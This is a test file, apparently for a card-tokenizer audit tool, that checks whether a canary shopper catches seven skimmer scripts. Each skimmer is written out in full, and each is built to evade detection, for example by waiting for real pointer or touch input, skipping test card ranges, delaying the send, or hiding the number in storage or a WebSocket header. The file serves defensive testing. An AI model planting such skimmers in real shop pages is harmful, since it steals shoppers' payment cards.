import { beforeAll, describe, expect, it } from 'vitest';
import type { AuditRun } from '../../src/audit/audit.js';
import { freshCanaryCard } from '../../src/audit/canary/card.js';
import { TOKENIZER } from './shop.js';
import { received, shopAsShopper } from './shopper.js';
import { audit, browser, leaks, site, skimmedShop, useSkimmedShop } from './skimmed-shop.js';

useSkimmedShop();

/** The digits the shopper typed, as a skimmer reads them. */
const DIGITS = `const digits = () => document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');`;

/** A skimmer's script, in a block of its own: several share the page. */
const skimmer = (body: string) => `{\n${DIGITS}\n${body}\n}`;

/** Skimmers written to get past a canary that types fast, never moves a pointer, and leaves at once. */
const SKIMMERS: [name: string, path: string, body: string, proof: RegExp, caught: RegExp][] = [
  [
    'waits for a trusted pointer moving over the page',
    '/reviews.js',
    skimmer(`let moves = 0;
addEventListener('pointermove', (event) => { if (event.isTrusted && event.pointerType === 'mouse') moves++; }, true);
document.addEventListener('submit', () => {
  if (moves > 5) fetch('/pointer', { method: 'POST', body: digits() }).catch(() => {});
}, { capture: true, once: true });`),
    /^\/pointer: card number, plain$/,
    /^request POST .*\/pointer: card number, plain$/,
  ],
  [
    'ignores the published test ranges',
    '/loyalty.js',
    skimmer(`const TEST_RANGES = ['497010', '411111', '424242', '400000', '401288', '555555', '510510', '222300', '513100', '497355'];
document.addEventListener('submit', () => {
  const number = digits();
  if (TEST_RANGES.some((range) => number.startsWith(range))) return;
  new Image().src = '/ranges.gif?h=' + [...number].map((digit) => digit.charCodeAt(0).toString(16)).join('');
}, { capture: true, once: true });`),
    /^\/ranges\.gif: card number, hex$/,
    /^request GET .*\/ranges\.gif\?h=\d+: card number, hex$/,
  ],
  [
    'sends the number 20 s after it was typed',
    '/chat.js',
    skimmer(`let timer;
document.addEventListener('input', () => {
  const number = digits();
  clearTimeout(timer);
  if (number.length >= 15) timer = setTimeout(() => fetch('/later', { method: 'POST', body: [...number].join('·') }).catch(() => {}), 20000);
}, true);`),
    /^\/later: card number, a separator between every digit$/,
    /^request POST .*\/later: card number, a separator between every digit$/,
  ],
  [
    'sends the number by sendBeacon when the page is left',
    '/session.js',
    skimmer(`let kept = '';
document.addEventListener('input', () => { kept = digits(); }, true);
addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('/bye', kept.replace(/(\\d{4})(?=\\d)/g, '$1-')); });`),
    /^\/bye: card number, with separators$/,
    /^request POST .*\/bye: card number, with separators$/,
  ],
  [
    'puts the number in storage for the next page of the shop to send',
    '/preferences.js',
    skimmer(
      `document.addEventListener('submit', () => { localStorage.pref = btoa([...digits()].reverse().join('')); }, true);`,
    ),
    /^\/order: base64 of card number, reversed$/,
    /^request POST .*\/order: base64 of card number, reversed$/,
  ],
  [
    'carries the number in a header of a request recorded in part (a WebSocket handshake)',
    '/live.js',
    skimmer(`document.addEventListener('submit', () => {
  new WebSocket(location.origin.replace('http', 'ws') + '/live', ['v1', 'c' + digits()]);
}, { capture: true, once: true });`),
    /^\/live: card number, plain$/,
    /^WebSocket handshake to ws:.*\/live: card number, plain$/,
  ],
  [
    'waits for a trusted touch (phones only)',
    '/mobile.js',
    skimmer(`let touches = 0;
addEventListener('touchstart', (event) => { if (event.isTrusted) touches++; }, true);
document.addEventListener('submit', () => {
  if (touches > 2) fetch('/touch', { method: 'POST', body: digits() }).catch(() => {});
}, { capture: true, once: true });`),
    /^\/touch: card number, plain$/,
    /^request POST .*\/touch: card number, plain$/,
  ],
];
/** The next page's script: sends what the checkout left in storage, and leaves no trace of it. */
const THANKS = `const pref = localStorage.getItem('pref');
if (pref) { localStorage.removeItem('pref'); fetch('/order', { method: 'POST', body: JSON.stringify({ ref: pref }) }); }`;
const TOUCH = SKIMMERS.length - 1;
const desktopSkimmers = SKIMMERS.slice(0, TOUCH);

describe('card-tokenizer-audit --canary, skimmers written against a canary', () => {
  let desktop: AuditRun;
  let mobile: AuditRun;
  let shopperSent: string[];
  let phoneSent: string[];
  let testCardSent: string[];

  beforeAll(async () => {
    skimmedShop(
      SKIMMERS.map(([, path, body]) => ({ path, body })),
      THANKS,
    );
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card);
    shopperSent = received(site, card);
    site.requests.splice(0);
    await shopAsShopper(browser, site, card, { mobile: true });
    phoneSent = received(site, card);
    site.requests.splice(0);
    await shopAsShopper(browser, site, '4970107111111119');
    testCardSent = received(site, '4970107111111119');
    desktop = await audit();
    mobile = await audit(true);
  }, 300_000);

  it.each(desktopSkimmers)(
    'proof: a skimmer that %s sends the card from a shopper’s browser',
    (_name, _path, _body, proof) => {
      expect(
        shopperSent.some((sent) => proof.test(sent)),
        shopperSent.join('\n'),
      ).toBe(true);
    },
  );

  it('proof: the skimmer of phones sends the card from a phone’s taps, not a pointer’s', () => {
    const proof = SKIMMERS[TOUCH][3];
    expect(
      phoneSent.some((sent) => proof.test(sent)),
      phoneSent.join('\n'),
    ).toBe(true);
    expect(shopperSent.some((sent) => proof.test(sent))).toBe(false);
  });

  it('proof: the skimmer of test ranges stays still for a published test card', () => {
    expect(testCardSent.some((sent) => SKIMMERS[1][3].test(sent))).toBe(false);
  });

  it.each(desktopSkimmers)('catches a skimmer that %s', (_name, _path, _body, _proof, caught) => {
    expect(
      leaks(desktop).some((leak) => caught.test(leak)),
      leaks(desktop).join('\n'),
    ).toBe(true);
  });

  it('catches the skimmer of phones with --as mobile, tapping', () => {
    expect(
      leaks(mobile).some((leak) => SKIMMERS[TOUCH][4].test(leak)),
      leaks(mobile).join('\n'),
    ).toBe(true);
  });

  it('still answers the element’s request alone, and leaves from the page the payment led to', () => {
    expect(desktop.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
    expect(desktop.canary!.leftFrom).toBe(`${site.origin}/pay`);
  });
});
